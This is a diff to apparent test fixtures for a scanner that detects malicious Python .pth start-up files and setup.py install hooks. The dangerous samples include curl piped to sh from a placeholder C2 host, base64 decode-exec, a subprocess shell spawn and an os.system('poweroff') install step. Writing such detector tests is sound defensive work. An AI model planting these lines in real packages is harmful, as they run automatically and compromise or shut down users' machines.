@@ -64,7 +64,20 @@ VIRTUALENV = "import _virtualenv\n"
 COVERAGE = "import coverage; coverage.process_startup()\n"
 PATHS = "/opt/lib\n../src\n"
 
+# Real start-up lines that run a literal block through exec (coverage 7, coloredlogs).
+COVERAGE_EXEC = (
+    'import sys; exec(\'import os\\n\\nif os.getenv("COVERAGE_PROCESS_START") or '
+    'os.getenv("COVERAGE_PROCESS_CONFIG"):\\n try:\\n  import coverage\\n except:\\n  '
+    'pass\\n else:\\n  coverage.process_startup(slug="pth")\')\n'
+)
+COLOREDLOGS_EXEC = (
+    'import os; exec(\'try: __import__("coloredlogs").auto_install() if '
+    'os.environ.get("COLOREDLOGS_AUTO_INSTALL") else None\\nexcept ImportError: pass\')\n'
+)
+
 BENIGN_PTH: dict[str, FileView] = {
+    "coverage-exec-literal": pth(COVERAGE_EXEC, "a1_coverage.pth"),
+    "coloredlogs-exec-literal": pth(COLOREDLOGS_EXEC, "coloredlogs.pth"),
     "distutils-precedence": pth(DISTUTILS_PRECEDENCE, "distutils-precedence.pth"),
     "editable-finder": pth(EDITABLE_FINDER, "__editable__.mypkg-1.0.pth"),
     "nspkg": pth(NSPKG, "zope.interface-5.0-py3.9-nspkg.pth"),
@@ -74,6 +87,9 @@ BENIGN_PTH: dict[str, FileView] = {
 }
 
 DANGEROUS_PTH: dict[str, FileView] = {
+    "exec-literal-spawns": pth(
+        'import os; exec(\'import subprocess\\nsubprocess.Popen(["sh", "-c", "id"])\')\n'
+    ),
     "litellm-launcher": pth(LITELLM_PTH_LINE, "litellm_init.pth"),
     "os-system-curl": pth(f'import os; os.system("curl -s {C2} | sh")\n'),
     "decode-exec": pth(f"import base64; exec(base64.b64decode('{HARMLESS_B64}'))\n"),
@@ -433,6 +449,7 @@ FIXTURES: dict[str, RuleFixtures] = {
     ),
     "setup-install-shell-download": RuleFixtures(
         positive=[
+            setup_py("import os\nos.system('poweroff')\n", "wreck-1.0/setup.py"),
             setup_py(SETUP_POSTINSTALL_CURL),
             setup_py(SETUP_WGET_VARIABLE),
             setup_py(SETUP_POWERSHELL),
